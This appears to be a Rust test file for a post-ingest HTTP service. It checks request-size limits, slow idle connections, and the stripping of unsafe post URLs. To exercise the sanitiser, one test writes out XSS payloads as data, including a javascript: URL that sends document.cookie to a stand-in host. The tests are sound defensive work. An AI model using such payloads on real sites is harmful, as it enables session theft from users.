//! What one hostile request can cost the ingest, over a real socket: a 1 MiB body of a
//! half a million tiny items gets a short answer (413 past `max_posts`, and a 400 lists at
//! most 100 problems), and a post's url that is not a web address loses its link, not
//! the post.

use serde_json::{json, Value};

use super::body::MAX_LISTED_PROBLEMS;
use super::tests::{answer, post_json, Ingest, TOKEN};
use crate::testkit::within;

/// `[1,1,…]`, just under 1 MiB: 524,287 items that are not posts.
fn ones() -> String {
    let n = (1 << 19) - 1;
    let mut body = String::with_capacity(2 * n + 1);
    body.push('[');
    for i in 0..n {
        if i > 0 {
            body.push(',');
        }
        body.push('1');
    }
    body.push(']');
    assert!(body.len() < 1 << 20);
    body
}

/// Send `body` and read the whole answer: its status, its size in bytes and its JSON.
async fn raw_answer(ingest: &Ingest, body: String) -> (u16, usize, Value) {
    let response = ingest
        .client
        .post(&ingest.url)
        .bearer_auth(TOKEN)
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    let bytes = response.bytes().await.unwrap();
    let json = serde_json::from_slice(&bytes).unwrap_or(Value::Null);
    (status, bytes.len(), json)
}

#[tokio::test]
async fn a_megabyte_of_tiny_items_gets_a_short_answer() {
    // The default bound on posts per request refuses it before parsing it all.
    let mut ingest = Ingest::start(|_| {});
    let (status, size, body) = raw_answer(&ingest, ones()).await;
    assert_eq!(
        (status, size < 1024),
        (413, true),
        "a {size}-byte answer {status}"
    );
    assert_eq!(
        body["error"],
        "more than 1000 posts in one request; send them in several"
    );
    assert_eq!(ingest.monitor.bad_counts().get("too_many"), Some(&1));

    // Allowed that many, every item is a problem, yet only 100 are listed.
    let mut ingest_all = Ingest::start(|c| c.max_posts = 1 << 20);
    let (status, size, body) = raw_answer(&ingest_all, ones()).await;
    assert_eq!(
        (status, size < 16 * 1024),
        (400, true),
        "a {size}-byte answer {status}"
    );
    let problems = body["problems"].as_array().unwrap();
    assert_eq!(problems.len(), MAX_LISTED_PROBLEMS);
    assert_eq!(
        problems[0],
        json!({"index": 0, "error": "expected a Post object, got a number"})
    );
    assert_eq!(body["unlisted_problems"], 524_287 - 100);
    assert!(
        body["error"]
            .as_str()
            .unwrap()
            .starts_with("524287 of 524287 posts are invalid; none was accepted; the first 100"),
        "{body}"
    );
    assert!(ingest_all.acked.try_recv().is_err(), "nothing was accepted");
    assert!(ingest.acked.try_recv().is_err(), "nothing was accepted");
    ingest_all.run.stop().await;
    ingest.run.stop().await;
}

#[tokio::test]
async fn exactly_max_posts_are_accepted() {
    let mut ingest = Ingest::start(|c| c.max_posts = 3);
    let three: Vec<Value> = (0..3).map(|i| post_json(&format!("p{i}"))).collect();
    let request = ingest.send(&Value::Array(three.clone()));
    let batch = within("a batch", ingest.acked.recv()).await.unwrap();
    assert_eq!(batch.posts.len(), 3);
    batch.done.send(()).unwrap();
    assert_eq!(within("the answer", request).await.unwrap().0, 202);
    let mut four = three;
    four.push(post_json("p3"));
    let (status, body, _) = answer(ingest.post(Value::Array(four).to_string())).await;
    assert_eq!(status, 413, "{body}");
    assert!(ingest.acked.try_recv().is_err());
    ingest.run.stop().await;
}

#[tokio::test]
async fn a_url_that_is_not_a_web_address_loses_the_link_not_the_post() {
    let mut ingest = Ingest::start(|_| {});
    let mut script = post_json("script");
    script["url"] = json!("javascript:fetch('//evil.example/'+document.cookie)");
    let mut data = post_json("data");
    data["url"] = json!("data:text/html,<script>alert(1)</script>");
    let mut spaced = post_json("spaced");
    spaced["url"] = json!("https://example.com/a b\"><script>");
    let request = ingest.send(&json!([script, data, spaced, post_json("plain")]));
    let batch = within("a batch", ingest.acked.recv()).await.unwrap();
    let urls: Vec<(&str, Option<&str>)> = batch
        .posts
        .iter()
        .map(|p| (p.id.as_str(), p.url.as_deref()))
        .collect();
    assert_eq!(
        urls,
        [
            ("script", None),
            ("data", None),
            (
                "spaced",
                Some("https://example.com/a%20b%22%3E%3Cscript%3E")
            ),
            ("plain", Some("https://example.com/p/1")),
        ]
    );
    batch.done.send(()).unwrap();
    assert_eq!(
        within("the answer", request).await.unwrap(),
        (202, json!({"accepted": 4}), None)
    );
    ingest.run.stop().await;
}

#[tokio::test]
async fn idle_half_open_connections_do_not_stop_the_ingest_from_answering() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut ingest = Ingest::start(|c| {
        c.header_read_timeout = std::time::Duration::from_millis(200);
        c.max_connections = 4;
    });
    let addr = ingest
        .url
        .trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap()
        .to_owned();
    let mut attackers = Vec::new();
    for i in 0..32 {
        let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
        if i % 2 == 1 {
            s.write_all(b"POST /api/v1/posts HTTP/1.1\r\nHost: x\r\n")
                .await
                .unwrap();
        }
        attackers.push(s);
    }
    let request = ingest.send(&post_json("real"));
    let batch = within("a batch", ingest.acked.recv()).await.unwrap();
    assert_eq!(batch.posts[0].id, "real");
    batch.done.send(()).unwrap();
    assert_eq!(within("the answer", request).await.unwrap().0, 202);
    for mut s in attackers {
        let mut rest = Vec::new();
        // Closed by the server: the end of the stream (or a reset), never a hang.
        let _ = within(
            "the server to close an idle connection",
            s.read_to_end(&mut rest),
        )
        .await;
    }
    let text = ingest.monitor.metrics().encode();
    let reached = text
        .lines()
        .find_map(|l| {
            l.strip_prefix(r#"viral_http_connection_limit_reached_total{listener="ingest"} "#)
        })
        .and_then(|n| n.parse::<u64>().ok());
    assert!(reached.is_some_and(|n| n >= 1), "{text}");
    ingest.run.stop().await;
}
